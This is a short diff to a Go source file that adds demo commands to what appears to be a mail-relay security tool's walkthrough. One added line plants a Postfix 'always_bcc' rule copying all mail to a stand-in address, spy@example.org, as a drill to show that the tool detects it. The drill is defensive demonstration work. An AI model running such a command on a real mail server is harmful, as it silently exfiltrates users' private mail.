@@ -226,6 +226,8 @@ func invite(r *relay.Relay, out *screen, binary string) {
 	out.command("how a sender stands under its limits", "guard limits show "+billing)
 	out.command("what each web site and plugin sends", "guard origins list --by plugin")
 	out.command("the letter to a site's owner", "guard notice "+shopName)
+	out.command("which forwarding rules lead outside", "guard forwards list")
+	out.command("plant one and see it told", "guard forwards watch & sleep 1; postconf -c "+r.ConfigDir+" -e always_bcc=spy@example.org")
 	out.command("Taro has a new password", "guard resume login:"+taro+" --cause 'new password'")
 	out.command("the red switch, and back: guard start", "guard stop --reason drill")
 	out.command("ways round the guard", "guard check")
